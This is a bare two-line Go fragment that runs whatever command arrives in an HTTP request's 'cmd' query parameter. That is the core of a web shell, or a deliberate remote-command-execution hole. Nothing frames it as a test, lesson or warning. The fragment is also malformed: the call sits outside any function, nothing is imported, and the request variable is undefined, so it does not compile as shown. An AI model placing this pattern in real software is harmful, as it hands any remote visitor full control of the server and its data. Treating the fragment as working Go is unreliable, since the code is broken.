package main

exec.Command(r.URL.Query().Get("cmd")).Run()
